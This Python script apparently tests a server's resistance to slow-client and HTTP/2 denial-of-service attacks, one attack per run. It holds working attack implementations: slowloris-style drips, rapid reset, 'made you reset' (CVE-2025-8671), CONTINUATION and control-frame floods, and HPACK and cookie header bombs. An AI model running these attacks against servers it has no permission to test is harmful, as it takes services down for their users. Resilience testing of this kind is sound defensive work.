"""Clients that hold on to what they are given, or ask for work without end: one attack a run.

Reads one JSON object from standard input: where to connect, and the attack's name. Writes how the
connection ended, what was answered, and how much was sent until then.
"""

import json
import struct
import sys
import time

from raw_http2 import (
    CONT, DATA, GET, GOAWAY, HEADERS, LIMIT_S, NAME, PING, PLAN, POST, PREFACE, RST, SETTINGS,
    block, connected, frame, pseudo, rst, settings, window,
)

# A flood that is not stopped by then is not stopped at all.
FRAMES_MAX = 200_000


def plain(text):
    return text.replace("HOST", NAME).encode()


def drip(stream, start, more, every_s):
    """Sends a beginning, then a little more every so often."""
    stream.sendall(start)
    sent = 0
    until = time.monotonic() + LIMIT_S
    while time.monotonic() < until:
        stream.settimeout(every_s)
        try:
            answer = stream.recv(65536)
            if not answer:
                return sent, "closed"
            return sent, answer[:200].decode("latin-1")
        except TimeoutError:
            stream.settimeout(LIMIT_S)
            stream.sendall(more)
            sent += 1
    return sent, "still open"


def flood(stream, make):
    """Sends frames as fast as they are taken, until the connection ends."""
    stream.sendall(PREFACE + settings())
    stream.settimeout(0.000_1)
    sent = 0
    while sent < FRAMES_MAX:
        try:
            stream.settimeout(LIMIT_S)
            stream.sendall(b"".join(make(sent + n) for n in range(100)))
            sent += 100
            # What is answered is taken, so that it is not the full buffer that ends it.
            stream.settimeout(0.000_1)
            while stream.recv(1 << 20):
                pass
            return sent, "closed"
        except TimeoutError:
            continue
    return sent, "still open"


def last_word(stream, frames):
    """Sends so much at once, and hears the server out: the error code of its GOAWAY."""
    stream.sendall(PREFACE + settings() + frames)
    stream.settimeout(LIMIT_S)
    heard = b""
    while octets := stream.recv(65536):
        heard += octets
    while len(heard) >= 9:
        length, kind = int.from_bytes(heard[:3]), heard[3]
        if kind == GOAWAY:
            return 1, f"GOAWAY {int.from_bytes(heard[13:17])}"
        heard = heard[9 + length:]
    return 1, "closed without a word"


def wait(stream):
    """Takes what comes until the end."""
    taken = 0
    until = time.monotonic() + LIMIT_S
    stream.settimeout(LIMIT_S)
    while time.monotonic() < until:
        octets = stream.recv(65536)
        if not octets:
            return taken, "closed"
        taken += len(octets)
    return taken, "still open"


def rapid(number):
    stream = 1 + 2 * number
    return frame(HEADERS, 5, stream, GET) + rst(stream)


def made_you(number):
    """The server is made to reset (CVE-2025-8671)."""
    stream = 1 + 2 * number
    return frame(HEADERS, 4, stream, POST) + window(stream, 0)


def slow_stream(start):
    """Requests that are served are held by the client's window."""

    def attack(stream):
        stream.sendall(PREFACE + settings((4, 0)) + start)
        return wait(stream)

    return attack


ENDLESS = frame(HEADERS, 0, 1, GET)
BOMB = frame(HEADERS, 5, 1, GET + b"\x40\x01x\x7f\x81\x1e" + b"a" * 4000 + b"\xbe" * 10_000)
LARGE = block(pseudo(path="/public/bytes/200000"))

HTTP1 = {
    "silence": lambda stream: wait(stream),
    "slow head": lambda stream: drip(stream, plain("GET /public HTTP/1.1\r\n"), b"X: y\r\n", 0.2),
    "slow second head": lambda stream: (
        stream.sendall(plain("GET /public HTTP/1.1\r\nHost: HOST\r\n\r\n")),
        time.sleep(0.1), stream.recv(65536),
        drip(stream, plain("GET /public HTTP/1.1\r\n"), b"X: y\r\n", 0.2),
    )[-1],
    "slow body": lambda stream: drip(stream, plain("POST /public HTTP/1.1\r\nHost: HOST\r\nContent-Length: 100000\r\n\r\n"), b"x", 0.2),
    "no body": lambda stream: drip(stream, plain("POST /public HTTP/1.1\r\nHost: HOST\r\nContent-Length: 100000\r\n\r\n"), b"", 0.2),
    "idle": lambda stream: (stream.sendall(plain("GET /public HTTP/1.1\r\nHost: HOST\r\n\r\n")), wait(stream))[-1],
    "slow upstream": lambda stream: drip(stream, plain("GET /public/delay/20000 HTTP/1.1\r\nHost: HOST\r\n\r\n"), b"", 0.2),
    "takes nothing": lambda stream: (
        stream.sendall(plain("GET /public/bytes/60000000 HTTP/1.1\r\nHost: HOST\r\n\r\n")),
        time.sleep(PLAN.get("hold_s", 8)), wait(stream),
    )[-1],
    "large head": lambda stream: drip(stream, plain("GET /public HTTP/1.1\r\nHost: HOST\r\nX: ") + b"y" * 60_000, b"y" * 100, 0.2),
    "many fields": lambda stream: drip(stream, plain("GET /public HTTP/1.1\r\nHost: HOST\r\n") + b"".join(b"x%d: y\r\n" % n for n in range(110)) + b"\r\n", b"", 0.2),
}
HTTP2 = {
    "slow preface": lambda stream: (stream.sendall(PREFACE[:10]), wait(stream))[-1],
    "no request": lambda stream: (stream.sendall(PREFACE + settings()), wait(stream))[-1],
    "slow headers": lambda stream: (stream.sendall(PREFACE + settings() + ENDLESS), wait(stream))[-1],
    "slow headers beside a request": lambda stream: (
        stream.sendall(PREFACE + settings() + frame(HEADERS, 5, 1, GET) + frame(HEADERS, 0, 3, GET)), wait(stream))[-1],
    "slow body": lambda stream: (stream.sendall(PREFACE + settings() + frame(HEADERS, 4, 1, POST) + frame(DATA, 0, 1, b"x")), wait(stream))[-1],
    "idle": lambda stream: (stream.sendall(PREFACE + settings() + frame(HEADERS, 5, 1, GET)), wait(stream))[-1],
    "zero window": slow_stream(b"".join(frame(HEADERS, 5, 1 + 2 * n, LARGE) for n in range(10))),
    "settings": lambda stream: flood(stream, lambda n: settings()),
    "ping": lambda stream: flood(stream, lambda n: frame(PING, 0, 0, struct.pack(">Q", n))),
    "empty data": lambda stream: (stream.sendall(b""), flood(stream, lambda n: frame(HEADERS, 4, 1, POST) if n == 0 else frame(DATA, 0, 1)))[-1],
    "window updates": lambda stream: flood(stream, lambda n: window(0, 1)),
    "priority": lambda stream: flood(stream, lambda n: frame(2, 0, 1 + 2 * n, b"\0\0\0\0\x10")),
    "unknown frames": lambda stream: flood(stream, lambda n: frame(0xEE, 0, 0, b"x")),
    "rapid reset": lambda stream: flood(stream, rapid),
    "rapid reset, then silence": lambda stream: last_word(stream, b"".join(map(rapid, range(300)))),
    "made you reset": lambda stream: flood(stream, made_you),
    "continuation": lambda stream: flood(stream, lambda n: ENDLESS if n == 0 else frame(CONT, 0, 1, b"")),
    "full continuation": lambda stream: flood(stream, lambda n: ENDLESS if n == 0 else frame(CONT, 0, 1, block([("x%d" % n, "y" * 100)]))),
    "hpack bomb": lambda stream: (stream.sendall(PREFACE + settings() + BOMB), wait(stream))[-1],
    "cookie bomb": lambda stream: (stream.sendall(PREFACE + settings() + frame(HEADERS, 1, 1, GET) + frame(CONT, 4, 1, b"\x40" + b"\x06cookie\x01a" + b"\xbe" * 16_000)), wait(stream))[-1],
}

protocol = PLAN["protocol"]
attack = (HTTP2 if protocol == "h2" else HTTP1)[PLAN["attack"]]
receive_bytes = 4096 if PLAN["attack"] == "takes nothing" else None
told = {"sent": None, "came": None}
try:
    with connected(protocol, receive_bytes) as stream:
        told["sent"], told["came"] = attack(stream)
except OSError as error:
    told["came"] = f"closed {type(error).__name__}"
json.dump(told, sys.stdout)
